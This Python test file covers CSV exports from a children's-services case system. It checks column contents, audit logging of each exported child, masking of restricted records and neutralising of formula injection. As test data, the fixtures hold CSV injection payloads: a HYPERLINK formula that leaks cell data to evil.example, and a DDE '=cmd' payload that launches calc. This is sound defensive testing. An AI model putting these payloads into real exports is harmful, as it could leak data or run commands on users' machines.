"""CSV downloads of every work list: what they hold, that each child listed is logged as
downloaded, that restricted children are masked, and that hostile text is neutralised."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
import time_machine
from django.urls import reverse

from frontdoor.audit.models import AccessAction, AccessLogEntry
from frontdoor.escalations.services import escalation_raise
from frontdoor.mash.services import enquiry_allocate
from frontdoor.restricted.services import restriction_create
from frontdoor.testing.factories import child_details, contact_child_of, local
from frontdoor.testing.fixtures import client_for
from frontdoor.web.downloads import BOM

pytestmark = pytest.mark.django_db

NOW = local(2026, 3, 4, 9)


@pytest.fixture(autouse=True)
def _pinned() -> Any:
    with time_machine.travel(NOW, tick=False):
        yield


def _csv(response: Any) -> list[list[str]]:
    assert response.status_code == 200, response
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="')
    assert response["Cache-Control"] == "no-store"
    text = response.content.decode("utf-8")
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text[len(BOM) :])))


def _exports(user: Any) -> list[AccessLogEntry]:
    return list(AccessLogEntry.objects.filter(user=user, action=AccessAction.EXPORT))


@pytest.fixture
def hostile(contact_recorded: Any) -> Any:
    """A contact whose referrer typed formulas into every box."""
    return contact_recorded(
        received_at=local(2026, 3, 3, 10),
        referrer_name='=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        referrer_role="+44 role",
        referrer_agency="@SUM(1+1)",
        referrer_phone="-1+2",
        children=[child_details(first_name="Amy", last_name="Apple")],
    )


def test_the_contact_search_downloads_every_child_with_hostile_cells_neutralised(
    hostile: Any, contact_recorded: Any, contact_officer: Any
) -> None:
    contact_recorded(
        received_at=local(2026, 3, 2, 10),
        referrer_name="Pat Teacher",
        children=[
            child_details(first_name="Ben", last_name="Berry"),
            child_details(first_name="Bo"),
        ],
    )
    rows = _csv(client_for(contact_officer).get(reverse("contact-search-csv")))
    header, first, *rest = rows
    assert header[:4] == ["Reference", "Received", "Channel", "Referrer"]
    named = dict(zip(header, first, strict=True))
    assert named["Reference"] == hostile.reference
    assert named["Received"] == "2026-03-03 10:00"
    assert named["Referrer"] == "'" + hostile.referrer_name
    assert named["Referrer role"] == "'+44 role"
    assert named["Referrer agency"] == "'@SUM(1+1)"
    assert named["Referrer phone"] == "'-1+2"
    assert named["Child"] == "Amy Apple"
    assert named["Screening outcome"] == "Awaiting screening"
    assert [r[header.index("Child")] for r in rest] == ["Ben Berry", "Bo Example"]
    logged = _exports(contact_officer)
    assert sorted(e.child.first_name for e in logged) == ["Amy", "Ben", "Bo"]
    entry = logged[0]
    assert entry.record_type == "contact" and entry.path == "/contacts/download/"
    assert entry.reason == "Downloaded as a CSV file: contact search results"
    assert "Referrer" in entry.fields


def test_a_download_takes_the_pages_filters_and_sends_bad_ones_back_to_the_page(
    hostile: Any, contact_recorded: Any, contact_officer: Any
) -> None:
    contact_recorded(referrer_name="Pat Teacher", children=[child_details(first_name="Ben")])
    client = client_for(contact_officer)
    rows = _csv(client.get(reverse("contact-search-csv"), {"referrer": "teacher"}))
    assert [r[rows[0].index("Child")] for r in rows[1:]] == ["Ben Example"]
    bad = client.get(reverse("contact-search-csv"), {"channel": "pigeon"})
    assert bad.status_code == 302
    assert bad["Location"] == reverse("contact-search") + "?channel=pigeon"
    # Only the good download was logged.
    assert [e.child.first_name for e in _exports(contact_officer)] == ["Ben"]


def test_a_restricted_child_is_masked_in_a_download_and_not_logged(
    hostile: Any, contact_officer: Any, mash_manager: Any
) -> None:
    amy = contact_child_of(hostile).child
    restriction_create(
        child=amy, category="high_profile", reason="A high-profile case.", by=mash_manager
    )
    response = client_for(contact_officer).get(reverse("contact-search-csv"))
    text = response.content.decode()
    header, row = _csv(response)
    named = dict(zip(header, row, strict=True))
    assert named["Child"] == f"Restricted record (record {amy.pk})"
    assert named["Child record"] == str(amy.pk)
    assert named["Referrer"] == named["Referrer agency"] == named["Referrer phone"] == ""
    assert "Amy" not in text and "Apple" not in text and "HYPERLINK" not in text
    assert _exports(contact_officer) == []


def test_the_queues_download_with_their_filters(
    screened_to_mash: Any, mash_worker: Any, mash_manager: Any
) -> None:
    red = screened_to_mash(rating="RED", children=[child_details(first_name="Red")])
    screened_to_mash(rating="GREEN", children=[child_details(first_name="Green")])
    enquiry_allocate(
        enquiry=red, allocated_to=mash_worker, by=mash_manager, at=local(2026, 3, 2, 12)
    )
    client = client_for(mash_worker)
    mine = _csv(client.get(reverse("queue-mine-csv")))
    assert mine[0] == [
        "Child",
        "Child record",
        "Stage",
        "Reference",
        "Owner",
        "Rating",
        "Started",
        "Due",
        "Clock",
    ]
    assert [(r[0], r[2], r[5], r[8]) for r in mine[1:]] == [
        ("Red Example", "MASH enquiry", "Red", "Overdue")
    ]
    team = _csv(client.get(reverse("queue-team-csv"), {"rating": "GREEN"}))
    assert [(r[0], r[5]) for r in team[1:]] == [("Green Example", "Green")]
    assert {e.child.first_name for e in _exports(mash_worker)} == {"Red", "Green"}


def test_decisions_and_caseloads_download(
    signed_off: Any, mash_manager: Any, mash_worker: Any, screened_to_mash: Any
) -> None:
    signed_off(outcome="nfa", children=[child_details(first_name="Ben")])
    enquiry = screened_to_mash(rating="RED", children=[child_details(first_name="Red")])
    enquiry_allocate(
        enquiry=enquiry, allocated_to=mash_worker, by=mash_manager, at=local(2026, 3, 2, 12)
    )
    client = client_for(mash_manager)
    decisions = _csv(client.get(reverse("decision-list-csv"), {"kind": "enquiry_closed"}))
    assert decisions[0][:6] == ["Date", "Kind", "Reference", "Child", "Child record", "Outcome"]
    assert [(r[1], r[3], r[5]) for r in decisions[1:]] == [
        ("MASH enquiry closed", "Ben Example", "No further action")
    ]
    caseloads = _csv(client.get(reverse("caseload-csv")))
    by_worker = {r[2]: dict(zip(caseloads[0], r, strict=True)) for r in caseloads[1:]}
    assert by_worker["mash_worker"]["Overdue"] == "1"
    assert by_worker["mash_worker"]["Open work"] == "1"
    assert by_worker["mash_manager"]["Team"] == "MASH"
    worker = _csv(client.get(reverse("caseload-worker-csv", args=[mash_worker.pk])))
    assert [(r[0], r[8]) for r in worker[1:]] == [("Red Example", "Overdue")]
    assert {(e.child.first_name, e.record_type) for e in _exports(mash_manager)} == {
        ("Ben", "decision"),
        ("Red", "user"),
    }


def test_another_teams_caseload_cannot_be_downloaded(
    assessment_manager: Any, mash_worker: Any
) -> None:
    url = reverse("caseload-worker-csv", args=[mash_worker.pk])
    assert client_for(assessment_manager).get(url).status_code == 403
    assert client_for(mash_worker).get(reverse("caseload-csv")).status_code == 403


def test_the_escalations_download(decided: Any, mash_worker: Any, contact_officer: Any) -> None:
    decision = decided(children=[child_details(first_name="Esme")])
    escalation_raise(
        child=decision.enquiry.child,
        record_type="decision",
        record_id=decision.pk,
        about="decision",
        disagreement="=cmd|' /C calc'!A0",
        outcome_sought="A strategy discussion.",
        by=contact_officer,
        at=local(2026, 3, 3, 14),
    )
    rows = _csv(client_for(contact_officer).get(reverse("escalation-list-csv")))
    named = dict(zip(rows[0], rows[1], strict=True))
    assert named["Child"] == "Esme Example" and named["Status"] == "Open"
    assert named["Raised"] == "2026-03-03 14:00"
    assert [e.record_type for e in _exports(contact_officer)] == ["escalation"]


def test_the_supervision_downloads(
    accepted: Any, assessment_manager: Any, assessment_worker: Any
) -> None:
    transfer = accepted(children=[child_details(first_name="Sam")])
    client = client_for(assessment_manager)
    overview = _csv(client.get(reverse("supervision-csv")))
    named = {r[0]: dict(zip(overview[0], r, strict=True)) for r in overview[1:]}
    assert named[assessment_worker.display_name]["Allocated cases"] == "1"
    cases = _csv(client.get(reverse("supervision-worker-csv", args=[assessment_worker.pk])))
    assert [r[0] for r in cases[1:]] == ["Sam Example"]
    assert [e.child_id for e in _exports(assessment_manager)] == [transfer.child_id]
    # A worker has no overview to download, and another worker's cases are not theirs.
    assert client_for(assessment_worker).get(reverse("supervision-csv")).status_code == 403


def test_the_reconciliation_download_names_no_child(contact_manager: Any, org: Any) -> None:
    from frontdoor.intake.payload import ReferralIn
    from frontdoor.intake.submissions import submission_receive
    from frontdoor.testing.factories import referral_document

    submission = submission_receive(
        referral=ReferralIn.model_validate(referral_document()),
        channel="partner_api",
        idempotency_scope="agency:education",
        idempotency_key="csv-1",
        at=local(2026, 3, 3, 9),
    ).submission
    rows = _csv(client_for(contact_manager).get(reverse("reconciliation-csv"), {"period": "7"}))
    assert rows[0][0] == "Reference"
    assert [r[0] for r in rows[1:]] == [submission.reference]
    assert _exports(contact_manager) == []


def test_the_possible_duplicates_download_hides_a_restricted_records_details(
    contact_recorded: Any, contact_manager: Any, mash_manager: Any
) -> None:
    from datetime import date

    from frontdoor.matching.duplicates import duplicates_check

    first, second = (
        contact_child_of(
            contact_recorded(
                children=[
                    child_details(
                        first_name=name, last_name="Robinson", date_of_birth=date(2017, 6, 12)
                    )
                ]
            )
        ).child
        for name in ("Olivia", "Olivai")
    )
    duplicates_check(second, at=local(2026, 3, 3, 10))
    client = client_for(contact_manager)
    header, row = _csv(client.get(reverse("duplicate-queue-csv")))
    named = dict(zip(header, row, strict=True))
    assert (named["Child"], named["Other child"]) == ("Olivia Robinson", "Olivai Robinson")
    assert named["Born"] == named["Other born"] == "2017-06-12"
    assert named["Why they may be the same child"]
    assert sorted(e.child_id for e in _exports(contact_manager)) == [first.pk, second.pk]

    restriction_create(
        child=second, category="staff_relative", reason="A relative.", by=mash_manager
    )
    response = client.get(reverse("duplicate-queue-csv"))
    header, row = _csv(response)
    named = dict(zip(header, row, strict=True))
    assert named["Other child"] == f"Restricted record (record {second.pk})"
    assert named["Other born"] == "" and named["Why they may be the same child"] == ""
    assert "Olivai" not in response.content.decode()
